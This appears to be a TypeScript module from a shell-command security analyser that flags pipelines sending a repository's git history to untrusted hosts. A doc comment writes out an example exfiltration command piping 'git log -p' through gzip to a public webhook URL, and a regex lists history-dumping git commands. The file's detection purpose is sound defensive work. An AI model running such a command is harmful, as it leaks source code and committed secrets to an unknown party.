import type { Command } from '../../shell/command.js';
import type { Effect } from '../../types.js';
import type { Frame } from '../analysis.js';
import { textOf } from '../../shell/command.js';
import { unwrapped } from '../../shell/output/unwrapped.js';
import { keepsForAnybody } from '../anybodys-hosts.js';
import { emit } from '../record.js';
import { resource } from '../target.js';
import { isUnchecked } from './unchecked-program.js';

/** What prints all that is committed, or puts it into a file. */
const HISTORY = /\bgit (?:-\S{1,40} \S{1,200} ){0,2}(?:log\b(?: [^\s;&|]{1,100}){0,8}? (?:-p|-u|--patch)(?=\s|$)|bundle create\b|archive\b|format-patch\b|fast-export\b)/;

/** Commands of one pipe, and words of one. */
const MAX_STEPS = 8;
const MAX_WORDS = 16;

/** True for a text in which a command stands that gives out what is committed. */
export function givesHistory(text: string): boolean {
  return HISTORY.test(text);
}

/** `git log -p | gzip | curl -T - https://webhook.site/a`: what is committed goes to an address of which nobody can tell whose it is. */
export function historySent(command: Command, { program, span }: Effect, frame: Frame): void {
  const isToStranger = command.words.some((word) => keepsForAnybody(textOf(word)) || isUnchecked(textOf(word)));
  if (isToStranger && isFedHistory(command, MAX_STEPS)) emit(frame, { kind: 'send', target: resource('repository', 'history'), program, span });
}

function isFedHistory({ input }: Command, steps: number): boolean {
  if (input.kind !== 'pipe' || steps === 0) return false;
  return input.from.some((each) => HISTORY.test(unwrapped(each).words.slice(0, MAX_WORDS).map(textOf).join(' ')) || isFedHistory(each, steps - 1));
}
